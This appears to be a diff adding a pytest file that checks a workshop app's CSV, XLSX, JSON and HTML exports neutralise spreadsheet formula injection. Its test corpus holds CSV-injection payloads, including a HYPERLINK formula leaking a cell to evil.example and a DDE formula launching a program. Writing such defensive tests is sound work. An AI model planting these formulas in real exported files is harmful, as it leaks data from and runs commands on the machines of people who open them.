@@ -1,0 +1,138 @@
+"""Issue 11: no typed text becomes a live spreadsheet formula in any exported file.
+
+The OWASP "CSV injection" corpus is typed where participants and the facilitator type text:
+a note, a theme name, a summary point, a method name, a role name and the workshop's name.
+Then the bundle is exported and every file is read back with its own reader:
+
+1. in every CSV cell a text that a spreadsheet would run (leading = + - @ tab CR) carries
+   OWASP's leading apostrophe, and nothing else is changed;
+2. in the workbook every text is a string cell (never a formula element), flagged
+   `quotePrefix` when it looks like a formula, and reads back as the exact text typed;
+3. JSON and HTML keep the text as typed (they are not spreadsheets).
+"""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import json
+import re
+import secrets
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from core import editing, export, notes
+from core.ballots import cast_ballot, close_voting, issue_cards, reveal
+from core.db import Database
+from core.domain import Stage, StagePosition
+from core.templates import available_templates
+from core.workshops import create_workshop, get_workshop, move_to, unlock_console
+from tests.conftest import BACKENDS, PgSchema, require_postgres
+
+PASS = "correct horse battery"
+CORPUS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"点这里")',
+    "=1+1",
+    "+1+1 加号开头",
+    "-2+3 减号开头",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+)
+"""Each text as typed; tab and CR never survive input cleaning (notes.normalize_text), so
+they are covered by the unit test of `neutralise_csv_text` below."""
+
+
+def test_a_text_starting_with_a_formula_trigger_gets_a_leading_apostrophe_in_csv() -> None:
+    for trigger in ("=", "+", "-", "@", "\t", "\r"):
+        assert export.neutralise_csv_text(f"{trigger}1+1") == f"'{trigger}1+1"
+    assert export.neutralise_csv_text("普通的话 =1") == "普通的话 =1"
+    assert export.neutralise_csv_text("'=1") == "'=1"  # already text for a spreadsheet
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def bundle(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Path]:
+    tmp = tmp_path_factory.mktemp(f"inject-{request.param}")
+    schema = None
+    if request.param == "sqlite":
+        db = Database.connect(f"sqlite:///{tmp / 'inject.db'}")
+    else:
+        url = require_postgres()
+        schema = PgSchema(url)
+        db = Database.connect(url, **schema.engine_kwargs())  # type: ignore[arg-type]
+    secret_key = secrets.token_bytes(32)
+    code = create_workshop(db, available_templates()["default"], CORPUS[3], PASS, anonymity_k=3)
+    grant = unlock_console(db, secret_key, code, PASS)
+    auth = (db, secret_key, code, grant)
+    injected_method = editing.add_method(*auth, CORPUS[0], CORPUS[5])
+    editing.set_roles(*auth, [(CORPUS[4], CORPUS[1])])
+    move_to(*auth, StagePosition(Stage.QUESTIONS, 0))
+    for text in CORPUS:
+        notes.post_note(db, code, text)
+    notes.flush_pending(*auth, 0)
+    wall = {n.text: n.id for n in notes.wall(db, code, 0, include_hidden=True)}
+    theme = notes.create_theme(*auth, 0, CORPUS[1])
+    notes.assign_note(*auth, wall[CORPUS[0]], theme)
+    notes.set_summary_points(*auth, 0, [CORPUS[2], CORPUS[4]])
+    move_to(*auth, StagePosition(Stage.VOTING))
+    w = get_workshop(db, code)
+    role = w.roles[0].key
+    for card in issue_cards(*auth, 4):
+        cast_ballot(
+            db, secret_key, code, card, (injected_method, w.method_keys[0]), role, client_key="t"
+        )
+    close_voting(*auth)
+    reveal(*auth, PASS)
+    key = export.load_or_create_signing_key(export.signing_key_path(tmp))
+    yield export.build_bundle(db, code, tmp / "out", "en", key)
+    db.dispose()
+    if schema is not None:
+        schema.drop()
+
+
+def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(bundle: Path) -> None:
+    seen: set[str] = set()
+    for path in sorted(bundle.glob("*.csv")):
+        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+        for row in rows:
+            for cell in row:
+                assert not export.is_formula_like(cell), f"{path.name}: live formula {cell!r}"
+                if cell.startswith("'"):
+                    seen.add(cell[1:])
+    # Every corpus text reached some CSV (notes, themes, method and role names, summaries).
+    assert set(CORPUS) <= seen, set(CORPUS) - seen
+
+
+def test_every_workbook_text_is_a_string_cell_never_a_formula(bundle: Path) -> None:
+    from openpyxl import load_workbook
+
+    xlsx = bundle / export.RESULTS_XLSX
+    with zipfile.ZipFile(xlsx) as archive:
+        for member in archive.namelist():
+            if member.startswith("xl/worksheets/"):
+                assert not re.search(rb"<f[ >]", archive.read(member)), member
+    texts: set[str] = set()
+    for sheet in load_workbook(xlsx):
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
+                    if export.is_formula_like(cell.value):
+                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
+                    texts.add(cell.value)
+    # The exact text typed, with no apostrophe added: the quote-prefix flag does that job.
+    for text in CORPUS:
+        assert any(text in value for value in texts), text
+
+
+def test_json_and_html_keep_the_text_as_typed(bundle: Path) -> None:
+    document = json.dumps(json.loads((bundle / export.RESULTS_JSON).read_text("utf-8")))
+    page = html.unescape((bundle / export.REPORT_HTML).read_text("utf-8"))
+    for text in CORPUS:
+        assert json.dumps(text)[1:-1] in document, text
+        assert text in page, text
